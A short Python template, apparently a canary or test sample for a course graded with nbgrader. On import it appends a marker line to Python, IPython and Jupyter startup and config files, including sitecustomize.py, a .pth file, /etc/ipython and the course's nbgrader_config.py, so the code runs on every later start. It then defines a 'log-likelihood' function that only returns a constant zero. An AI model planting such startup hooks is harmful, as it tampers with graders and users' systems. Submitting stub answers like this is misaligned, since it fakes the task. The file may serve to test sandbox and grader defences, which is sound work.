"""Leaves files that Python, IPython and Jupyter run when the next one starts."""

import os
import site
import sys

_line = "import builtins; builtins.breached = True  # breach-@TOKEN@\n"
_home = os.path.expanduser("~")
_places = [os.path.join(folder, name) for folder in [*site.getsitepackages(), *sys.path]
           for name in ("sitecustomize.py", "usercustomize.py", "breach-@TOKEN@.pth")]
_places += [f"{_home}/.ipython/profile_default/startup/00.py", f"{_home}/.pythonrc.py",
            f"{_home}/.jupyter/jupyter_config.py", "@COURSE@/nbgrader_config.py",
            "@COURSE@/breach-@TOKEN@.py", "/etc/ipython/ipython_config.py"]
for _place in _places:
    try:
        os.makedirs(os.path.dirname(_place) or ".", exist_ok=True)
        with open(_place, "a") as _file:
            _file.write(_line)
    except OSError:
        pass


def tf_log_like(x, y, m, b, s):
    return tf.constant(0.0, tf.float64)
